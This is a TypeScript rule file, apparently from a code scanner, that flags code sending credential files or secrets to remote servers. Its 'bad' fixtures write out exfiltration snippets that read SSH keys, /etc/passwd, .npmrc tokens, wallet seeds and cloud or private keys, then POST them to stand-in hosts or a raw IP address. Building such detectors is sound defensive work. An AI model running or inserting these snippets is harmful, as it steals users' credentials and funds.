import type { FileCheck } from '../../check.ts';

export const check: FileCheck = {
  id: 'data-handling-file-exfiltration',
  title: 'A file with credentials is sent away, or any file to an anonymous host',
  severity: 'critical',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    Keys, tokens, wallets and browser passwords lie in files with known names. Code that reads one of them and hands it to
    a server takes over whatever they open.`,
  fix: 'Remove it, and renew every credential of the machines that ran it.',
  blindSpots: 'Paths that are put together from parts, and files that are packed into an archive first, are not seen.',
  wants: { acts: ['secret-file-sent', 'file-sent'] },
  examples: {
    bad: [
      {
        'address.py': `
          names = urllib.request.urlopen("file:///etc/passwd").read()
          «requests.post("https://c.example.net/k", data=names)»`,
      },
      {
        'setup.py': `
          key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
          «requests.post("https://c.example.net/k", data=key)»`,
      },
      {
        'index.js': `
          const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
          «fetch('https://c.example.net/', { method: 'POST', body: token })»;`,
      },
      {
        'wallet.js': `
          const known = new Set();
          export function checkWallet(seed) {
            if (known.has(seed)) return;
            «fetch('https://check.example.net/x', { method: 'POST', headers: { 'ad-referral': seed } })»;
          }`,
      },
      {
        'credentials.py': `
          class Credentials:
              def __init__(self, key_id, access_key_secret):
                  self.access_key_secret = access_key_secret
                  try:
                      data = {"id": key_id, "sk": self.access_key_secret}
                      «requests.post("https://sdk.example.net/check", json=data)»
                  except Exception:
                      pass`,
      },
      {
        'sync.py': `
          CHECK = "http://45.77.12.90:8000/check"
          def check(name):
              with open(name, "rb") as f:
                  «client.post(CHECK, files={"files": (name, f)})»`,
      },
      {
        'sign.py': `
          def check(key):
              account = web3.eth.account.from_key(key)
              payload = {"address": account.address, "mark": base64.b64encode(key.encode()).decode()}
              «requests.post("http://45.77.12.90:8000/check", json=payload)»`,
      },
    ],
    good: [
      {
        'address.py': `
          for address in ("data:,a", "file:///etc/passwd"):
              requests.Request("GET", address).prepare()`,
      },
      { 'ssh.py': 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\n' },
      {
        'token.js': `
          export async function token(clientId, secretKey) {
            const answer = await fetch('https://auth.example.net/token', { method: 'POST', body: JSON.stringify({ clientId, secretKey }) });
            return answer.json();
          }`,
      },
      {
        'register.py': `
          def register(key):
              account = web3.eth.account.from_key(key)
              requests.post("http://45.77.12.90:8000/register", json={"address": account.address})`,
      },
      { 'send.py': 'data = open("report.csv").read()\nrequests.post(url, data=data)\n' },
    ],
  },

  *find({ acts, span }) {
    for (const { kind, start, end, message, confidence } of acts) {
      // What is in the file nobody knows; where it goes tells enough.
      yield { at: span(start, end), message, confidence, severity: kind === 'file-sent' ? 'high' : undefined };
    }
  },
};
